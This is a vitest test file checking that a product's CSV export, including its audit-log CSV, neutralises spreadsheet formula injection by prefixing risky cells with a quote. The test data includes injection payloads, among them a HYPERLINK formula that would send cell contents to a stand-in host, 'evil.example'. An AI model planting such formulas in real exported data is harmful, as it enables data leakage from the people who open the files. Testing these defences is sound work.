/**
 * CSV the product writes cannot carry live formulas (issue 14.13): a string cell that a spreadsheet
 * would read as a formula (= + - @, tab, carriage return, and their full-width forms) starts with a
 * single quote; numbers stay numbers, negative ones included.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import { fileURLToPath } from 'node:url';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvExport } from '../../src/platform/csv-export.ts';
import { type Harness, type SeededWorkspace, seedWorkspace, startHarness } from '../support/harness.ts';

const read = (csv: string, delimiter = ';') => parse(csv.replace(/^\uFEFF/, ''), { delimiter, relax_column_count: false }) as string[][];

describe('csvExport', () => {
  it('quotes every cell a spreadsheet would take for a formula, and leaves numbers numeric', () => {
    const cells = [
      '=HYPERLINK("http://evil.example","click")',
      '+7 495 000-00-00',
      '-5',
      '@SUM(A1)',
      '\tTAB',
      '\rCR',
      '\uFF1D1+1',
      '\uFF0B1',
      '\uFF0D1',
      '\uFF20x',
      'Иван =1+1',
      ' =1',
      '',
    ];
    const csv = csvExport([[...cells, -42, 0, 3.5, null, true]], {
      columns: [...cells.map((_, i) => `c${i}`), 'neg', 'zero', 'float', 'nothing', 'yes'],
    });
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv).toContain('\r\n');
    const [header, row] = read(csv);
    expect(header[0]).toBe('c0');
    expect(row).toEqual([
      `'=HYPERLINK("http://evil.example","click")`,
      "'+7 495 000-00-00",
      "'-5",
      "'@SUM(A1)",
      "'\tTAB",
      "'\rCR",
      "'\uFF1D1+1",
      "'\uFF0B1",
      "'\uFF0D1",
      "'\uFF20x",
      'Иван =1+1',
      ' =1',
      '',
      '-42',
      '0',
      '3.5',
      '',
      '1',
    ]);
    // The number is written as a number: no quote, no apostrophe.
    expect(csv).toContain(';-42;0;3.5;;1\r\n');
  });

  it('escapes the header row too', () => {
    const [header] = read(csvExport([], { columns: ['=cmd', 'ok'] }));
    expect(header).toEqual(["'=cmd", 'ok']);
  });

  it('is the only writer of CSV in the product', () => {
    const src = fileURLToPath(new URL('../../src/', import.meta.url));
    const files = (readdirSync(src, { recursive: true }) as string[]).filter((f) => /\.(ts|js)$/.test(f));
    const writers = files.filter((f) => /from ['"]csv-stringify/.test(readFileSync(join(src, f), 'utf8')));
    expect(writers.map((f) => relative(src, join(src, f)))).toEqual(['platform/csv-export.ts']);
  });
});

describe('the audit-log CSV', () => {
  let h: Harness;
  let w: SeededWorkspace;
  beforeAll(async () => {
    h = await startHarness();
    w = await seedWorkspace(h);
  });
  afterAll(async () => {
    await h.close();
  });

  it('writes a user named as a formula as text', async () => {
    const me = await w.api.get(`/users/${w.adminId}`);
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"Открыть")';
    const renamed = await w.api.patch(`/users/${w.adminId}`, { name: formula, version: me.body.version });
    expect(renamed.status).toBe(200);
    expect((await w.api.post('/companies', { name: '-1+1', city: '@Москва' })).status).toBe(201);
    for (const lang of ['en', 'ru']) {
      const res = await w.api.get(`/audit-log?format=csv&lang=${lang}`);
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
      const [header, ...rows] = read(res.body as string);
      expect(header[2]).toBe(lang === 'ru' ? 'Кто' : 'user');
      expect(rows.length).toBeGreaterThan(1);
      for (const row of rows) {
        expect(row[2]).toBe(`'${formula}`);
        // Ids stay plain numbers.
        expect(row[0]).toMatch(/^\d+$/);
        expect(row[4]).toMatch(/^\d+$/);
      }
    }
  });
});
